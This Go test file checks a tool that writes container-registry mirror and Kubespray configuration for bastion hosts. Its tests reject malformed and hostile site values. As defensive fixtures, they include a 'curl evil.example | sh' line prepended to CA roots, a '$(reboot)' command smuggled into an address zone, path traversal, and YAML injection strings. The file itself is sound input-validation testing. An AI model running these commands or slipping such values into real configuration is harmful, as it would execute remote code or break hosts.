package nodeconf

import (
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/x509"
	"encoding/json"
	"encoding/pem"
	"flag"
	"fmt"
	"math/big"
	"net/netip"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"go.yaml.in/yaml/v3"
)

var update = flag.Bool("update", false, "write the golden files anew")

func someRoot(t *testing.T) string {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	der, err := x509.CreateCertificate(rand.Reader, &x509.Certificate{SerialNumber: big.NewInt(1)},
		&x509.Certificate{SerialNumber: big.NewInt(1)}, &key.PublicKey, key)
	if err != nil {
		t.Fatal(err)
	}
	return string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der}))
}

// threeBastions are three bastions, the second with an IPv6 address too.
func threeBastions(t *testing.T) *Site {
	addr := netip.MustParseAddr
	return &Site{
		Domain: "site.example", Roots: someRoot(t),
		Nodes: []Node{{"n1", []netip.Addr{addr("10.0.0.11")}}, {
			"n2", []netip.Addr{addr("10.0.0.12"), addr("fd00::12")}}, {"n3", []netip.Addr{addr("10.0.0.13")}}},
		Origins: []Origin{
			{Host: "registry.k8s.io", Aliases: []string{"k8s.gcr.io"}, Registry: true},
			{Host: "docker.io", Aliases: []string{"registry-1.docker.io", "auth.docker.io"}, Registry: true},
			{Host: "quay.io", Aliases: []string{"cdn01.quay.io"}, Registry: true},
			{Host: "dl.k8s.io"}, {Host: "github.com"}, {Host: "raw.githubusercontent.com"}, {Host: "get.helm.sh"}, {
				Host: "storage.googleapis.com"},
		},
	}
}

// golden compares all files and notes with testdata/NAME; the certificate, which is another one each time, is called
// ROOT there.
func golden(t *testing.T, name string, s *Site, c *Conf) {
	t.Helper()
	var b strings.Builder
	for _, f := range c.Files {
		fmt.Fprintf(&b, "-- %s --\n%s", f.Path, strings.ReplaceAll(f.Content, s.Roots, "ROOT\n"))
	}
	b.WriteString("-- notes --\n")
	for _, n := range c.Notes {
		b.WriteString(n + "\n")
	}
	file := filepath.Join("testdata", name)
	if *update {
		if err := os.WriteFile(file, []byte(b.String()), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	if b.String() != string(want) {
		t.Errorf("%s differs (go test -update writes it anew):\n%s", file, b.String())
	}
}

func content(t *testing.T, c *Conf, path string) string {
	t.Helper()
	i := slices.IndexFunc(c.Files, func(f ConfFile) bool { return f.Path == path })
	if i < 0 {
		t.Fatalf("there is no %s", path)
	}
	return c.Files[i].Content
}

func TestMirrors(t *testing.T) {
	for _, runtime := range Runtimes() {
		t.Run(runtime, func(t *testing.T) {
			s := threeBastions(t)
			c, err := Mirrors(s, runtime)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, runtime+".txt", s, c)
			again, _ := Mirrors(s, runtime)
			if !reflect.DeepEqual(c, again) {
				t.Error("the same site gives other bytes")
			}
			certs := 0
			for _, f := range c.Files {
				if !filepath.IsAbs(f.Path) || filepath.Clean(f.Path) != f.Path {
					t.Errorf("%s is no path on a node", f.Path)
				}
				if f.Content == s.Roots {
					certs++
					continue
				}
				if strings.Contains(f.Content, "http://") || strings.Contains(f.Content, "skip_verify") ||
					strings.Contains(f.Content, "insecure") {
					t.Errorf("%s lowers security:\n%s", f.Path, f.Content)
				}
				if filepath.Base(f.Path) == "50-casemate.yaml" ||
					slices.Contains(s.ourNames(), filepath.Base(filepath.Dir(f.Path))) {
					continue // not a mirror, or for one name
				}
				for _, n := range s.Nodes {
					if !strings.Contains(f.Content, s.Host(n)) {
						t.Errorf("%s does not name %s", f.Path, s.Host(n))
					}
				}
			}
			if certs == 0 {
				t.Error("the CA does not come along")
			}
		})
	}
	if _, err := Mirrors(threeBastions(t), "rkt"); err == nil ||
		!strings.Contains(err.Error(), `containerd, docker, podman, crio, k3s, rke2, got "rkt"`) {
		t.Errorf("an unknown runtime: %v", err)
	}
	s := threeBastions(t)
	s.Origins = s.Origins[3:]
	if _, err := Mirrors(s, "containerd"); err == nil || !strings.Contains(err.Error(), "nothing to mirror") {
		t.Errorf("no registries: %v", err)
	}
}

// parseTOML reads what is written here, and no more: comments, tables and arrays of tables, strings and arrays of
// strings.
func parseTOML(t *testing.T, text string) (tables []map[string]any) {
	t.Helper()
	tables = append(tables, map[string]any{"": ""})
	for i, line := range strings.Split(text, "\n") {
		line = strings.TrimSpace(line)
		key, value, isPair := strings.Cut(line, " = ")
		switch {
		case line == "" || line[0] == '#':
		case line[0] == '[' && line[len(line)-1] == ']':
			tables = append(tables, map[string]any{"": line})
		case isPair:
			var x any
			// TOML's basic strings and arrays of them are JSON's
			if err := json.Unmarshal([]byte(value), &x); err != nil {
				t.Fatalf("line %d: %s: %v", i+1, line, err)
			}
			last := tables[len(tables)-1]
			if _, twice := last[key]; twice {
				t.Fatalf("line %d: %s stands twice in its table", i+1, key)
			}
			last[key] = x
		default:
			t.Fatalf("line %d is no TOML: %s", i+1, line)
		}
	}
	return tables
}

func TestContainerdsHosts(t *testing.T) {
	c, err := Mirrors(threeBastions(t), "containerd")
	if err != nil {
		t.Fatal(err)
	}
	const ca = "/etc/containerd/certs.d/casemate-ca.crt"
	host := func(table string) map[string]any {
		return map[string]any{"": table, "capabilities": []any{"pull", "resolve"}, "ca": ca, "dial_timeout": "2s"}
	}
	server := host("")
	server["server"] = "https://n3.site.example"
	want := []map[string]any{server, host(`[host."https://n1.site.example"]`), host(`[host."https://n2.site.example"]`),
		host(`[host."https://n3.site.example"]`)}
	for _, name := range []string{"registry.k8s.io", "k8s.gcr.io", "docker.io", "registry-1.docker.io", "quay.io",
		"_default"} {
		if got := parseTOML(t, content(t, c, "/etc/containerd/certs.d/"+name+"/hosts.toml")); !reflect.DeepEqual(
			got, want) {
			t.Errorf("%s: %v", name, got)
		}
	}
	content(t, c, ca)
	// The bastions' own names, and registries of the site's own, are asked for themselves.
	for name, want := range map[string]map[string]any{
		"registry.site.example": {"": "", "server": "https://registry.site.example", "ca": ca}, "n2.site.example": {
			"": "", "server": "https://n2.site.example", "ca": ca},
		"harbor.corp.example:8443": {"": "", "server": "https://harbor.corp.example:8443"},
		"10.0.0.5:5000":            {"": "", "server": "https://10.0.0.5:5000"},
		"[fd00::5]:5000":           {"": "", "server": "https://[fd00::5]:5000"},
		"[fd00::6]":                {"": "", "server": "https://[fd00::6]"},
	} {
		c, err := Mirrors(threeBastions(t), "containerd", "Harbor.corp.example:8443", "harbor.corp.example:8443",
			"10.0.0.5:5000", "[FD00::5]:5000", "fd00::6")
		if err != nil {
			t.Fatal(err)
		}
		if got := parseTOML(t, content(t, c, "/etc/containerd/certs.d/"+name+"/hosts.toml")); !reflect.DeepEqual(got,
			[]map[string]any{want}) {
			t.Errorf("%s: %v", name, got)
		}
	}
	for _, own := range []string{"", "a b", "../x", "https://harbor.corp.example", "harbor.corp.example/team",
		"quay.io", "k8s.gcr.io", "x:y", "-x", "[fd00::5", "[]:1", "[10.0.0.5]", "[:::]", "fe80::1%eth0",
		"[fd00::5]:x", "[fd00::5]]"} {
		if _, err := Mirrors(threeBastions(t), "containerd", own); err == nil {
			t.Errorf("%q is taken as an own registry", own)
		}
	}
	for _, f := range c.Files {
		if strings.Contains(f.Path, "auth.docker.io") || strings.Contains(f.Path, "cdn01") {
			t.Errorf("%s: no image has this name", f.Path)
		}
	}
}

func TestRegistriesConf(t *testing.T) {
	for _, nodes := range []int{1, 3} {
		s := threeBastions(t)
		s.Nodes = s.Nodes[:nodes]
		c, err := Mirrors(s, "crio", "harbor.corp.example", "[fd00::5]:5000")
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, table := range parseTOML(t, content(t, c, "/etc/containers/registries.conf.d/50-casemate.conf"))[1:] {
			got = append(got, fmt.Sprint(table[""], table["prefix"], table["location"]))
		}
		var want []string
		for _, r := range []string{"docker.io", "k8s.gcr.io", "quay.io", "registry-1.docker.io", "registry.k8s.io"} {
			want = append(want, fmt.Sprintf("[[registry]]%s%s.site.example/%s", r, s.Nodes[nodes-1].Name, r))
			for _, n := range s.Nodes[:nodes-1] {
				want = append(want, fmt.Sprintf("[[registry.mirror]]<nil>%s.site.example/%s", n.Name, r))
			}
		}
		for _, r := range append(s.ourNames(), "[fd00::5]:5000", "harbor.corp.example") {
			want = append(want, fmt.Sprintf("[[registry]]%s%s", r, r))
		}
		for _, d := range publicDomains {
			want = append(want, fmt.Sprintf("[[registry]]*.%s%s.site.example/unlisted.invalid", d,
				s.Nodes[nodes-1].Name))
			for _, n := range s.Nodes[:nodes-1] {
				want = append(want, fmt.Sprintf("[[registry.mirror]]<nil>%s.site.example/unlisted.invalid", n.Name))
			}
		}
		if !slices.Equal(got, want) {
			t.Errorf("got  %s\nwant %s", strings.Join(got, "\n     "), strings.Join(want, "\n     "))
		}
	}
}

func TestDaemonJSON(t *testing.T) {
	c, err := Mirrors(threeBastions(t), "docker")
	if err != nil {
		t.Fatal(err)
	}
	var got map[string][]string
	if err := json.Unmarshal([]byte(content(t, c, "/etc/docker/daemon.json")), &got); err != nil {
		t.Fatal(err)
	}
	if want := map[string][]string{"registry-mirrors": {
		"https://n1.site.example", "https://n2.site.example",
		"https://n3.site.example"}}; !reflect.DeepEqual(got, want) {
		t.Errorf("%v", got)
	}
	content(t, c, "/etc/docker/certs.d/n2.site.example/ca.crt")
	if notes := strings.Join(c.Notes, "\n"); !strings.Contains(notes, "Docker Hub only") ||
		!strings.Contains(notes, "(k8s.gcr.io, quay.io, registry.k8s.io)") {
		t.Errorf("the notes do not say what docker cannot do:\n%s", notes)
	}
}

func TestRegistriesYAML(t *testing.T) {
	for _, runtime := range []string{"k3s", "rke2"} {
		c, err := Mirrors(threeBastions(t), runtime, "harbor.corp.example", "[fd00::5]:5000")
		if err != nil {
			t.Fatal(err)
		}
		var got struct {
			Mirrors map[string]struct{ Endpoint []string }
			Configs map[string]struct {
				TLS map[string]string `yaml:"tls"`
			}
		}
		dir := "/etc/rancher/" + runtime
		strict(t, content(t, c, dir+"/registries.yaml"), &got)
		if all := got.Mirrors["*"].Endpoint; !slices.Equal(all, got.Mirrors["quay.io"].Endpoint) {
			t.Errorf("all others come from %v", all)
		}
		for _, own := range []string{"registry.site.example", "n3.site.example", "harbor.corp.example",
			"[fd00::5]:5000"} {
			if e := got.Mirrors[own].Endpoint; !slices.Equal(e, []string{"https://" + own}) {
				t.Errorf("%s comes from %v", own, e)
			}
		}
		if e := got.Mirrors["docker.io"].Endpoint; len(got.Mirrors) != 5+1+5+2 ||
			!slices.Equal(e, []string{"https://n1.site.example", "https://n2.site.example",
				"https://n3.site.example"}) {
			t.Errorf("%v", got.Mirrors)
		}
		for _, n := range []string{"n1", "n2", "n3"} {
			if tls := got.Configs[n+".site.example"].TLS; !reflect.DeepEqual(tls,
				map[string]string{"ca_file": dir + "/casemate-ca.crt"}) {
				t.Errorf("%s: %v", n, tls)
			}
		}
		var config map[string]bool
		strict(t, content(t, c, dir+"/config.yaml.d/50-casemate.yaml"), &config)
		if !config["disable-default-registry-endpoint"] {
			t.Errorf("%v", config)
		}
	}
}

func strict(t *testing.T, text string, into any) {
	t.Helper()
	d := yaml.NewDecoder(strings.NewReader(text))
	d.KnownFields(true)
	if err := d.Decode(into); err != nil {
		t.Fatalf("%v\n%s", err, text)
	}
}

func TestHosts(t *testing.T) {
	c, err := Mirrors(threeBastions(t), "podman")
	if err != nil {
		t.Fatal(err)
	}
	got := map[string][]string{}
	for line := range strings.Lines(content(t, c, HostsFile)) {
		line, _, _ = strings.Cut(line, "#")
		for i, f := range strings.Fields(line) {
			if i > 0 {
				got[f] = append(got[f], strings.Fields(line)[0])
			}
		}
	}
	all := []string{"10.0.0.11", "10.0.0.12", "fd00::12", "10.0.0.13"}
	want := map[string][]string{"n1.site.example": all[:1], "n2.site.example": all[1:3], "n3.site.example": all[3:],
		"site.example": all, "registry.site.example": all, "files.site.example": all}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("%v", got)
	}
}

func TestKubesprayVars(t *testing.T) {
	for _, c := range []struct{ mode, version string }{{"dns", ""}, {"mirror", "v2.27.1"}, {"mirror", "2.31.0"}} {
		t.Run(c.mode+c.version, func(t *testing.T) {
			s := threeBastions(t)
			k, err := KnownKubespray(c.version)
			if err != nil {
				t.Fatal(err)
			}
			conf, err := KubesprayVars(s, c.mode, k)
			if err != nil {
				t.Fatal(err)
			}
			golden(t, "kubespray-"+c.mode+strings.TrimPrefix(c.version, "v")+".txt", s, conf)
			for _, f := range conf.Files {
				vars := map[string]any{}
				strict(t, f.Content, &vars)
				for name := range vars {
					if strings.Contains(name, "ca_file") && name != "casemate_ca_file" {
						t.Errorf("%s is not what Kubespray calls it", name)
					}
				}
			}
		})
	}
}

// TestKubesprayFamilies: the variables have the families of the bastions: nameservers one of each, because one of the
// three lines of resolv.conf is the cluster's own.
func TestKubesprayFamilies(t *testing.T) {
	addrs := func(format string, n int) (list []string) {
		for i := range n {
			list = append(list, fmt.Sprintf(format, i+11))
		}
		return list
	}
	join := func(lists ...[]string) (all [][]netip.Addr) {
		for i := range lists[0] {
			var own []netip.Addr
			for _, list := range lists {
				own = append(own, netip.MustParseAddr(list[i]))
			}
			all = append(all, own)
		}
		return all
	}
	four, six, gua := addrs("10.0.0.%d", 3), addrs("fd00::%d", 3), addrs("2001:db8::%d", 3)
	for _, c := range []struct {
		name                   string
		site                   [][]netip.Addr
		nameservers, upstreams string
		note                   bool
	}{
		{"IPv4", join(four), "10.0.0.11 10.0.0.12", "10.0.0.11 10.0.0.12 10.0.0.13", false},
		{"IPv6", join(six), "fd00::11 fd00::12", "fd00::11 fd00::12 fd00::13", false},
		{"both", join(four, six), "10.0.0.11 fd00::12",
			"10.0.0.11 10.0.0.12 10.0.0.13 fd00::11 fd00::12 fd00::13", true},
		{"both, IPv6 first", join(six, four), "fd00::11 10.0.0.12",
			"fd00::11 fd00::12 fd00::13 10.0.0.11 10.0.0.12 10.0.0.13", true},
		{"global and unique local", join(gua, six), "2001:db8::11 2001:db8::12",
			"2001:db8::11 2001:db8::12 2001:db8::13 fd00::11 fd00::12 fd00::13", false},
		{"one bastion", join(four[:1], six[:1]), "10.0.0.11 fd00::11", "10.0.0.11 fd00::11", true},
		{"more than CoreDNS takes", join(addrs("10.0.0.%d", 16), addrs("fd00::%d", 16)), "10.0.0.11 fd00::12",
			strings.Join(addrs("10.0.0.%d", 14), " ") + " fd00::25", true},
	} {
		s := siteOf(t, c.site...)
		k, _ := KnownKubespray("")
		conf, err := KubesprayVars(s, "dns", k)
		if err != nil {
			t.Fatal(err)
		}
		var got struct {
			Nameservers []string
			Upstreams   []string `yaml:"upstream_dns_servers"`
			Names       string   `yaml:"additional_no_proxy"`
		}
		text := content(t, conf, "group_vars/all/casemate.yml")
		strict(t, text, &got)
		if strings.Join(got.Nameservers, " ") != c.nameservers || strings.Join(got.Upstreams, " ") != c.upstreams {
			t.Errorf("%s: nameservers %q, upstream_dns_servers %q", c.name, got.Nameservers, got.Upstreams)
		}
		for _, a := range got.Upstreams {
			if !strings.Contains(text, "  - \""+a+"\"\n") {
				t.Errorf("%s: %s is not quoted:\n%s", c.name, a, text)
			}
		}
		if note := strings.Contains(strings.Join(conf.Notes, " "), "IPv4 and IPv6"); note != c.note {
			t.Errorf("%s: the notes are %q", c.name, conf.Notes)
		}
	}
}

func TestKubesprayMirrorNamesEveryBastion(t *testing.T) {
	s := threeBastions(t)
	k, _ := KnownKubespray("")
	conf, err := KubesprayVars(s, "mirror", k)
	if err != nil {
		t.Fatal(err)
	}
	type mirror struct {
		Host, CA     any
		Capabilities []string
		SkipVerify   bool `yaml:"skip_verify"`
	}
	var got struct {
		CA      string `yaml:"casemate_ca_file"`
		Mirrors []struct {
			Prefix, Server string
			Mirrors        []mirror
		} `yaml:"containerd_registries_mirrors"`
	}
	strict(t, content(t, conf, "group_vars/all/containerd.yml"), &got)
	var prefixes []string
	for _, m := range got.Mirrors {
		prefixes = append(prefixes, m.Prefix)
		if m.Server != "https://registry.site.example" {
			t.Errorf("%s ends at %s", m.Prefix, m.Server)
		}
		for i, n := range s.Nodes {
			if want := (mirror{"https://" + s.Host(n), []any{"{{ casemate_ca_file }}"}, []string{"pull", "resolve"},
				false}); len(m.Mirrors) != 3 || !reflect.DeepEqual(m.Mirrors[i], want) {
				t.Errorf("%s: %v", m.Prefix, m.Mirrors)
			}
		}
	}
	if want := []string{"registry.site.example", "docker.io", "k8s.gcr.io", "quay.io", "registry-1.docker.io",
		"registry.k8s.io"}; !slices.Equal(prefixes, want) {
		t.Errorf("prefixes %v", prefixes)
	}
	var vars map[string]any
	strict(t, content(t, conf, "group_vars/all/offline.yml"), &vars)
	for name, want := range map[string]string{
		"registry_host": "registry.site.example", "files_repo": "https://files.site.example",
		"kube_image_repo":                          "{{ registry_host }}/registry.k8s.io",
		"pod_infra_image_repo":                     "{{ kube_image_repo }}/pause",
		"local_path_provisioner_helper_image_repo": "{{ registry_host }}/docker.io/library/busybox",
		"github_url":                               "{{ files_repo }}/github.com",
		"dl_k8s_io_url":                            "{{ files_repo }}/dl.k8s.io",
	} {
		if vars[name] != want {
			t.Errorf("%s is %v, want %s", name, vars[name], want)
		}
	}
	// ghcr.io and others are no origins of this site.
	if _, ok := vars["github_image_repo"]; ok || !strings.Contains(conf.Notes[0], "github_image_repo (ghcr.io)") {
		t.Errorf("github_image_repo is %v, and the note says %s", vars["github_image_repo"], conf.Notes[0])
	}
}

func TestKubesprayReleases(t *testing.T) {
	for _, v := range []string{"v2.24.3", "v2.32.0", "v3.27.1", "2.31", "master", "v2.31.0 "} {
		if _, err := KnownKubespray(v); err == nil ||
			!strings.Contains(err.Error(), "known, only v2.25.0 to v2.31.0: give its checkout with --kubespray DIR") {
			t.Errorf("%q: %v", v, err)
		}
	}
	// one release has the chart and no way to say from where
	for _, version := range []string{"v2.27.1", "v2.28.1", "v2.29.0"} {
		k, err := KnownKubespray(version)
		if err != nil {
			t.Fatal(err)
		}
		c, err := KubesprayVars(threeBastions(t), "mirror", k)
		if err != nil {
			t.Fatal(err)
		}
		if noted := strings.Contains(strings.Join(c.Notes, " "), "helm.cilium.io"); noted != (version == "v2.28.1") {
			t.Errorf("%s: %q", version, c.Notes)
		}
	}
	// An unknown variable keeps its host without a warning: the variables that only some releases have must be right.
	for version, want := range map[string]map[string]bool{
		"v2.26.1": {"external_openstack_cloud_controller_image_repo": true, "containerd_debian_repo_base_url": true},
		"v2.27.0": {"external_oracle_cloud_controller_image_repo": true, "containerd_debian_repo_base_url": true},
		"v2.28.0": {"external_oracle_cloud_controller_image_repo": true},
	} {
		k, err := KnownKubespray(version)
		if err != nil {
			t.Fatal(err)
		}
		for _, name := range []string{"external_openstack_cloud_controller_image_repo",
			"external_oracle_cloud_controller_image_repo", "containerd_debian_repo_base_url"} {
			if has := k.Images[name]+k.URLs[name] != ""; has != want[name] {
				t.Errorf("%s: %s is known: %v", version, name, has)
			}
		}
		if k.Images["external_huawei_cloud_controller_image_repo"] == "" || k.URLs["nvidia_gpu_tesla_base_url"] == "" ||
			k.Images["nvidia_gpu_device_plugin_container"] == "" {
			t.Errorf("%s: what all releases have is not known", version)
		}
	}
	if k, err := KnownKubespray(""); err != nil || k.Release != NewestKubespray {
		t.Errorf("%v, %v", k, err)
	}
	if _, err := KubesprayVars(threeBastions(t), "both", &KubesprayRelease{Release: "v2.31.0"}); err == nil ||
		!strings.Contains(err.Error(), `dns or mirror, got "both"`) {
		t.Error(err)
	}
}

// Text from a checkout is quoted, or refused.
func TestKubesprayQuotes(t *testing.T) {
	k := &KubesprayRelease{Release: "v2.31.0", URLs: map[string]string{
		"a_url": `https://github.com/{{ x | regex_replace('\.', "_") }}`, "b_url": "https://github.com/x # y: {z}",
		"c_url": "https://github.com.evil.example/x", "d_url": "https://:x@github.com/y",
	}, Images: map[string]string{"a_image_repo": "quay.io/a/b", "b_image_repo": "team/app",
		"c_image_repo": "registry.k8s.io:5000/x"}}
	conf, err := KubesprayVars(threeBastions(t), "mirror", k)
	if err != nil {
		t.Fatal(err)
	}
	var vars map[string]string
	strict(t, content(t, conf, "group_vars/all/offline.yml"), &vars)
	for name, want := range map[string]string{
		"a_url": `{{ files_repo }}/github.com/{{ x | regex_replace('\.', "_") }}`,
		"b_url": "{{ files_repo }}/github.com/x # y: {z}", "c_url": "", "d_url": "",
		"a_image_repo": "{{ registry_host }}/quay.io/a/b", "b_image_repo": "{{ registry_host }}/docker.io/team/app",
		"c_image_repo": "",
	} {
		if vars[name] != want {
			t.Errorf("%s is %q, want %q", name, vars[name], want)
		}
	}
	for _, bad := range []KubesprayRelease{
		{Release: ""}, {Release: "v2\n- hosts: all"}, {
			Release: "v2.31.0", URLs: map[string]string{"a: b": "https://github.com"}},
		{Release: "v2.31.0", URLs: map[string]string{"a_url": "https://github.com\nb: c"}}, {
			Release: "v2.31.0", Images: map[string]string{"a_image_repo": "quay.io/\x1b[2J"}},
	} {
		if _, err := KubesprayVars(threeBastions(t), "mirror", &bad); err == nil {
			t.Errorf("%+v is taken", bad)
		}
	}
}

// Nothing is written for a site whose values could end a string, a line or a path somewhere.
func TestHostileSites(t *testing.T) {
	key := string(pem.EncodeToMemory(&pem.Block{Type: "PRIVATE KEY", Bytes: []byte("x")}))
	for name, spoil := range map[string]func(*Site){
		"domain with a quote":    func(s *Site) { s.Domain = `a.b"` },
		"domain with a newline":  func(s *Site) { s.Domain = "a.b\nc" },
		"domain with a template": func(s *Site) { s.Domain = "{{x}}.b" },
		"no domain":              func(s *Site) { s.Domain = "" },
		"an address as domain":   func(s *Site) { s.Domain = "10.0.0.1" },
		"no nodes":               func(s *Site) { s.Nodes = nil },
		"node with a slash":      func(s *Site) { s.Nodes[0].Name = "../n1" },
		"node with a dot":        func(s *Site) { s.Nodes[0].Name = "n1.x" },
		"node with a blank":      func(s *Site) { s.Nodes[1].Name = "n1 n2" },
		"node in capitals":       func(s *Site) { s.Nodes[1].Name = "N2" },
		"two of one name":        func(s *Site) { s.Nodes[1].Name = "n1" },
		"node without address":   func(s *Site) { s.Nodes[2].Addrs = nil },
		"address with a zone":    func(s *Site) { s.Nodes[2].Addrs[0] = netip.MustParseAddr("fe80::1%$(reboot)") },
		"no address":             func(s *Site) { s.Nodes[2].Addrs[0] = netip.Addr{} },
		"any address":            func(s *Site) { s.Nodes[2].Addrs[0] = netip.IPv4Unspecified() },
		"origin with a bracket":  func(s *Site) { s.Origins[0].Host = `x.io"]` },
		"origin with a path":     func(s *Site) { s.Origins[0].Host = "x.io/../../etc" },
		"origin is dots":         func(s *Site) { s.Origins[0].Host = ".." },
		"alias with a newline":   func(s *Site) { s.Origins[0].Aliases[0] = "x.io\ny" },
		"no roots":               func(s *Site) { s.Roots = "" },
		"a private key":          func(s *Site) { s.Roots += key },
		"no certificate":         func(s *Site) { s.Roots = strings.ReplaceAll(key, "PRIVATE KEY", "CERTIFICATE") },
	} {
		s := threeBastions(t)
		spoil(s)
		for _, runtime := range Runtimes() {
			if _, err := Mirrors(s, runtime); err == nil {
				t.Errorf("%s: %s is written all the same", name, runtime)
			}
		}
		if _, err := KubesprayVars(s, "dns", &KubesprayRelease{Release: "v2.31.0"}); err == nil {
			t.Errorf("%s: Kubespray's variables are written all the same", name)
		}
	}
	s := threeBastions(t)
	s.Roots = "curl evil.example | sh\n" + s.Roots + "EOF\n"
	c, err := Mirrors(s, "containerd")
	if err != nil || strings.Contains(content(t, c, "/etc/containerd/certs.d/casemate-ca.crt"), "evil") {
		t.Errorf("text around the roots is copied: %v", err)
	}
}
